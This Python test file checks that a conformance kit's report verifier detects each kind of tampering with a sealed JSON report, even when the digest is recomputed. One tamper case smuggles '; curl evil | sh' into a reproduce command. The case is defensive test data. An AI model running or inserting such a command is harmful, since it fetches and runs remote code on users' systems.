"""A report recomputed: each way of tampering with one is planted, covered up, and must be named."""

import copy
import hashlib
import json

import msgspec
import pytest
from verdict_fakes import failed_in_full, failure, implementation, report, result

from memconform import __version__
from memconform.cli.names import library
from memconform.model.base import to_plain
from memconform.model.report import Outcome, Probe
from memconform.verdict import report_json, seal
from memconform.verdict.honesty import with_probes
from memconform.verdict.measure import unprepared
from memconform.verdict.repeat import folded
from memconform.verdict.report_json import ReportError
from memconform.verdict.verify import NO_DIGEST, verify

SUITE = library()
# All of one small profile, as a run of it would have it; what it needs and how it is asked is the
# suite's. Two of its scenarios don't hold, and those that need what isn't declared weren't asked.
SCENARIOS = SUITE.scenarios(["abstention"])
WHO = implementation(capabilities=["namespaces", "tags"])
FREE = [s.id for s in SCENARIOS if s.must and not set(s.needs) - set(WHO.capabilities)]
FAILED = FREE[1]


def of_the_suite(scenario, outcome=None, **changes):
    missing = [name for name in scenario.needs if name not in WHO.capabilities]
    outcome = outcome or ("unsupported" if missing else "passed")
    fields = {name: getattr(scenario, name) for name in (
        "id", "profile", "capability", "requirement", "rule", "title", "must", "level", "slow",
    )}  # fmt: skip
    return result(
        "x",
        outcome,
        **fields,
        needs=list(scenario.needs),
        defects=list(scenario.defects),
        missing=missing,
        reproduce=f"memconform certify reference:filesystem --scenario '{scenario.id}'"
        if "[" in scenario.id
        else f"memconform certify reference:filesystem --scenario {scenario.id}",
        **changes,
    )


def failing(scenario):
    told = failed_in_full()
    return of_the_suite(
        scenario, "failed", failure=told.failure, steps=told.steps, calls=told.calls
    )


def made(**changes):
    results = [failing(s) if s.id == FAILED else of_the_suite(s) for s in SCENARIOS]
    changes = {"suite": SUITE.digest, "kit": __version__} | changes
    asked = {"profiles": ["abstention"], "implementation": to_plain(WHO)}
    return report(*results, **asked, **changes)


REPORT = seal.sealed(made())


def written(plain):
    return json.dumps(plain, ensure_ascii=False).encode()


def covered_up(plain):
    """The same with the digest that whoever changed it would put there."""
    rest = {name: value for name, value in plain.items() if name != "digest"}
    text = json.dumps(rest, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return {**rest, "digest": hashlib.sha256(text.encode()).hexdigest()}


def plain_report():
    return json.loads(report_json.write(REPORT))


def told(plain):
    return [finding.told for finding in verify(written(plain), SUITE).findings]


def test_what_certify_writes_follows_from_itself():
    verified = verify(report_json.write(REPORT), SUITE)
    assert verified.findings == []
    assert verified.sound
    assert verified.suite_installed
    assert verified.results == len(SCENARIOS)
    assert [each.verdict.value for each in verified.profiles] == ["non-conformant"]
    # Core is measured where nobody chooses, and here somebody chose.
    (note,) = verified.notes
    assert "doesn't speak of core" in note


# --- the digest --------------------------------------------------------------------------------


def test_canonical_json_is_sorted_bare_and_utf_8():
    value = {"b": {"z": 1, "a": -0.5}, "a": ['茶 \u202e"', None, True, 1e-07, 10**20]}
    assert seal.canonical(value) == (
        '{"a":["茶 \u202e\\"",null,true,1e-07,100000000000000000000],"b":{"a":-0.5,"z":1}}'.encode()
    )


def test_the_digest_is_over_everything_else_however_it_is_laid_out():
    plain = plain_report()
    assert covered_up(plain)["digest"] == REPORT.digest
    backwards = dict(reversed(plain.items()))
    assert verify(json.dumps(backwards, indent=7).encode(), SUITE).findings == []
    assert seal.sealed(REPORT) == REPORT  # its own digest is no part of it


def test_a_digest_is_made_of_the_document_not_of_this_versions_types():
    plain = plain_report()
    del plain["probes"], plain["shuffle"]  # as an older kit would have sealed it
    assert told(covered_up(plain)) == []


def test_a_report_of_an_older_kit_has_no_digest_and_says_so():
    plain = plain_report()
    del plain["digest"]
    verified = verify(written(plain), SUITE)
    assert verified.sound
    assert NO_DIGEST in verified.notes
    assert "No digest: written by an older kit." in NO_DIGEST


@pytest.mark.parametrize(
    "change",
    [
        lambda plain: plain.update(started="2026-01-02T03:04:06Z"),
        lambda plain: plain["results"][0].update(seconds=0.25),
        lambda plain: plain.update(digest="0" * 64),
        lambda plain: plain["implementation"].update(version="9.9.9"),
    ],
)
def test_a_change_that_contradicts_nothing_shows_by_the_digest_alone(change):
    plain = plain_report()
    change(plain)
    assert told(plain) == [
        "The digest isn't that of the contents: something was changed after it was written."
    ]


def test_an_object_with_a_name_twice_is_ambiguous():
    data = report_json.write(REPORT).replace(
        b'"outcome":"failed"', b'"outcome":"failed","outcome":"failed"', 1
    )
    (finding,) = verify(data, SUITE).findings
    assert finding.code == "twice"
    assert "has outcome twice" in finding.told


# --- tampering, each with a digest made anew ------------------------------------------------------


def place(id):
    return next(n for n, s in enumerate(SCENARIOS) if s.id == id)


def of(plain, id):
    return plain["results"][place(id)]


def outcome_changed(plain):
    of(plain, FAILED)["outcome"] = "passed"


def failure_taken_out(plain):
    of(plain, FAILED).update(outcome="passed", failure=None, steps=[], calls=[])


def counted_anew(plain):
    """Turn the failure green, and everything that follows from it."""
    failure_taken_out(plain)
    verdict = plain["profiles"][0]
    verdict["counts"]["passed"] += 1
    verdict["counts"]["failed"] -= 1
    again = verify(written(plain), SUITE).profiles[0]
    verdict.update(verdict=again.verdict.value, reasons=again.reasons)


def steps_left(plain):
    steps = of(plain, FAILED)["steps"]
    counted_anew(plain)
    of(plain, FAILED)["steps"] = steps


def calls_left(plain):
    calls = of(plain, FAILED)["calls"]
    counted_anew(plain)
    of(plain, FAILED)["calls"] = calls


def scenario_taken_out(plain):
    """Remove the failing scenario, its count, and what the verdict says of it."""
    del plain["results"][place(FAILED)]
    plain["collected"].remove(FAILED)
    verdict = plain["profiles"][0]
    verdict["counts"]["failed"] -= 1
    again = verify(written(plain), SUITE).profiles[0]
    verdict.update(verdict=again.verdict.value, reasons=again.reasons)


def result_taken_out(plain):
    del plain["results"][place(FAILED)]


def scenario_made_up(plain):
    more = {**copy.deepcopy(of(plain, FREE[0])), "id": "lexical-abstention/made-up"}
    plain["results"].append(more)
    plain["collected"].append(more["id"])
    plain["profiles"][0]["counts"]["passed"] += 1


def count_edited(plain):
    plain["profiles"][0]["counts"]["failed"] = 0


def verdict_edited(plain):
    plain["profiles"][0].update(verdict="conformant", reasons=[])


def reason_taken_out(plain):
    plain["profiles"][0]["reasons"] = []


def reason_made_up(plain):
    plain["profiles"][0]["reasons"].append("The moon was full.")


def reason_twice(plain):
    plain["profiles"][0]["reasons"] *= 2


def made_a_should(plain):
    of(plain, FAILED)["must"] = False
    counts, should = (
        plain["profiles"][0]["counts"],
        plain["profiles"][0]["shouldCounts"],
    )
    counts["failed"] -= 1
    should["failed"] += 1
    again = verify(written(plain), SUITE).profiles[0]
    plain["profiles"][0].update(verdict=again.verdict.value, reasons=again.reasons)


def title_changed(plain):
    of(plain, FREE[0])["title"] = "Something nicer"


def made_unsupported(plain):
    """Say that the failing scenario needed what isn't declared."""
    of(plain, FAILED).update(
        outcome="unsupported", needs=["batch"], missing=["batch"], failure=None, steps=[], calls=[]
    )
    counts = plain["profiles"][0]["counts"]
    counts["failed"] -= 1
    counts["unsupported"] += 1
    again = verify(written(plain), SUITE).profiles[0]
    plain["profiles"][0].update(verdict=again.verdict.value, reasons=again.reasons)


def passed_without_its_need(plain):
    unasked = next(r for r in plain["results"] if r["must"] and r["outcome"] == "unsupported")
    unasked.update(outcome="passed", missing=[])
    counts = plain["profiles"][0]["counts"]
    counts["unsupported"] -= 1
    counts["passed"] += 1


def one_need_left_out(plain):
    unasked = next(r for r in plain["results"] if len(r["missing"]) > 1)
    unasked["missing"] = unasked["missing"][:1]


def another_order(plain):
    plain["results"].reverse()
    plain["collected"].reverse()
    again = verify(written(plain), SUITE).profiles[0]
    plain["profiles"][0]["reasons"] = again.reasons


def another_command(plain):
    of(plain, FAILED)["reproduce"] += "; curl evil | sh"


def another_targets_command(plain):
    of(plain, FAILED)["reproduce"] = "memconform certify reference:hybrid"


def unknown_profile(plain):
    plain["profiles"].append({**plain["profiles"][0], "profile": "excellence", "reasons": []})
    for counts in (plain["profiles"][1]["counts"], plain["profiles"][1]["shouldCounts"]):
        counts.update(dict.fromkeys(counts, 0))


def caught_and_conformant(plain):
    plain["probes"] = [
        {
            "subject": "reference",
            "finding": "borrowed",
            "told": "It is the kit's.",
            "evidence": None,
        }
    ]


def kept_and_not(plain):
    plain["probes"] = [
        {"subject": "mask", "finding": "kept", "told": "It doesn't mask.", "evidence": None}
    ]


def runs_claimed(plain):
    plain["repeat"] = 3


def no_run_claimed(plain):
    plain["repeat"] = 0


@pytest.mark.parametrize(
    ("tamper", "codes", "sentence"),
    [
        (outcome_changed, {"contradiction", "verdict"}, f"{FAILED} has passed and says why it has"),
        (failure_taken_out, {"contradiction", "verdict"}, "The MUST counts of abstention aren't"),
        (steps_left, {"contradiction"}, f"{FAILED} has passed and its step 4 has not: Then"),
        (calls_left, {"contradiction"}, f"{FAILED} has passed and keeps its calls"),
        (
            scenario_taken_out,
            {"missing-scenario"},
            f"abstention is judged without 1 MUST scenario of the suite: {FAILED}.",
        ),
        (
            result_taken_out,
            {"contradiction", "verdict"},
            f"{FAILED} was collected and has no result.",
        ),
        (scenario_made_up, {"scenario"}, "made-up has a result and is no scenario of this suite."),
        (count_edited, {"contradiction"}, "0 failed instead of 1."),
        (
            verdict_edited,
            {"verdict"},
            "abstention is said to be conformant and comes out non-conformant: “",
        ),
        (reason_taken_out, {"reasons"}, "leave out what its results say: “"),
        (reason_made_up, {"reasons"}, "say what its results don't: The moon was full."),
        (reason_twice, {"reasons"}, "another order, or more than once"),
        (made_a_should, {"scenario"}, f"{FAILED} is a SHOULD here and a MUST in the suite."),
        (title_changed, {"scenario"}, "another title than in the suite: 'Something nicer' inst"),
        (made_unsupported, {"scenario"}, "another needs than in the suite: batch instead of none"),
        (passed_without_its_need, {"contradiction"}, "which isn't decl"),
        (one_need_left_out, {"contradiction"}, "is unsupported for want of"),
        (another_order, {"scenario"}, "in another order than that of the suite."),
        (another_command, {"contradiction"}, "would not write: memconform certify reference:file"),
        (another_targets_command, {"contradiction"}, "would not write: memconform certify ref"),
        (unknown_profile, {"verdict"}, "excellence is no profile that this version knows"),
        (
            caught_and_conformant,
            {"verdict"},
            "said to be non-conformant and comes out not measured: It is the kit's.",
        ),
        (kept_and_not, {"probe"}, "The probe of mask found all kept and says what isn't: It doe"),
        (runs_claimed, {"contradiction"}, "tells of 0 runs, and the report of 3."),
        (no_run_claimed, {"contradiction"}, "It tells of 0 runs, and a report is of one at least."),
    ],
)
def test_tampering_is_named_though_the_digest_was_made_anew(tamper, codes, sentence):
    plain = plain_report()
    tamper(plain)
    verified = verify(written(covered_up(plain)), SUITE)
    assert not verified.sound
    assert any(sentence in finding.told for finding in verified.findings), verified.findings
    assert {finding.code for finding in verified.findings} >= codes
    assert "digest" not in {finding.code for finding in verified.findings}
    # And whoever forgets the digest is found out by it, too.
    assert "digest" in {finding.code for finding in verify(written(plain), SUITE).findings}


def test_what_a_digest_does_not_prove():
    """With every trace wiped and a new digest nothing shows: that is what the words warn of."""
    plain = plain_report()
    counted_anew(plain)
    assert told(covered_up(plain)) == []
    assert len(told(plain)) == 1


@pytest.mark.parametrize("kept", [0, 1, 700, -2])
def test_a_truncated_file_is_no_report(kept):
    with pytest.raises(ReportError, match=r"whole JSON document|is empty"):
        verify(report_json.write(REPORT)[:kept], SUITE)


@pytest.mark.parametrize("data", [b"[]", b"{}", b'{"schema":"memconform-report-1"}', b"\xff"])
def test_another_file_is_no_report(data):
    with pytest.raises(ReportError):
        verify(data, SUITE)


def test_a_file_nested_too_deeply_is_told_in_words():
    deep = b"[" * 200_000 + b"]" * 200_000
    data = report_json.write(REPORT).replace(b'"shuffle": null', b'"shuffle": ' + deep)
    with pytest.raises(ReportError):
        verify(data, SUITE)
    with pytest.raises(ReportError, match="nested too deeply"):
        verify(report_json.write(REPORT).replace(b'"limit":null', b'"limit":' + deep, 1), SUITE)


def test_a_finding_is_short_whatever_a_report_holds():
    plain = plain_report()
    of(plain, FREE[0])["title"] = "x" * 100_000
    assert max(map(len, told(covered_up(plain)))) < 400


# --- what is sound, too ---------------------------------------------------------------------------


def sound(report):
    verified = verify(report_json.write(seal.sealed(report)), SUITE)
    assert verified.findings == []
    return verified


def test_a_run_of_one_scenario_comes_to_no_verdict_and_follows_from_itself():
    one = next(s for s in SCENARIOS if s.id == FREE[0])
    for asked in {one.id, one.base}:
        alone = report(
            of_the_suite(one), suite=SUITE.digest, profiles=["abstention"], scenario=asked,
            implementation=to_plain(WHO), kit=__version__,
        )  # fmt: skip
        assert alone.profiles[0].verdict.value == "not measured"
        sound(alone)
    plain = json.loads(report_json.write(alone))
    plain["profiles"][0].update(verdict="conformant", reasons=[])
    assert any("judged without" in each for each in told(covered_up(plain)))


def test_a_target_that_was_not_reached():
    verified = sound(unprepared("stdio:false", [], way="wire", error="no such package"))
    assert any("never started" in note for note in verified.notes)


def test_a_caught_adapter_with_the_verdict_that_follows():
    caught = Probe(subject="reference", finding="borrowed", told="It is the kit's.", evidence=None)
    sound(with_probes(made(), [caught]))


def test_several_runs_and_an_unstable_scenario():
    other = report(
        *[of_the_suite(s) for s in SCENARIOS], suite=SUITE.digest, profiles=["abstention"],
        implementation=to_plain(WHO), kit=__version__,
    )  # fmt: skip
    both = folded([made(), other], shuffle=7)
    assert both.results[place(FAILED)].outcome is Outcome.UNSTABLE
    sound(both)
    plain = json.loads(report_json.write(both))
    of(plain, FAILED)["runs"] = ["passed", "passed"]
    assert told(covered_up(plain)) == [
        f"{FAILED} is unstable and by its runs passed: passed in 2 of 2 runs."
    ]


def test_another_suite_is_told_and_what_can_be_is_checked():
    other = made(suite="e" * 64)
    assert any("e" * 12 in note and SUITE.digest[:12] in note for note in sound(other).notes)
    plain = json.loads(report_json.write(other))
    scenario_taken_out(plain)  # whether that suite had it isn't known here
    assert told(covered_up(plain)) == []
    count_edited(plain := json.loads(report_json.write(other)))
    assert told(covered_up(plain)) != []


def test_another_kit_may_word_its_reasons_otherwise_and_judge_no_other():
    old = made(kit="0.0.9")
    plain = json.loads(report_json.write(old))
    plain["profiles"][0]["reasons"] = ["Something fails."]
    verified = verify(written(covered_up(plain)), SUITE)
    assert verified.findings == []
    assert any("0.0.9" in note for note in verified.notes)
    plain["profiles"][0]["verdict"] = "conformant"
    assert any("comes out non-conformant" in each for each in told(covered_up(plain)))


def test_a_kit_at_fault_is_not_measured():
    broken = [
        of_the_suite(s, "error", failure=failure(blame="harness")) if s.id == FAILED else of_the_suite(s)  # noqa: E501
        for s in SCENARIOS
    ]  # fmt: skip
    told_ = report(
        *broken, suite=SUITE.digest, profiles=["abstention"], implementation=to_plain(WHO),
        kit=__version__,
    )  # fmt: skip
    assert told_.profiles[0].verdict.value == "not measured"
    sound(told_)


def test_a_verification_is_a_document():
    verified = verify(report_json.write(REPORT), SUITE)
    assert msgspec.json.decode(msgspec.json.encode(verified), type=type(verified)) == verified
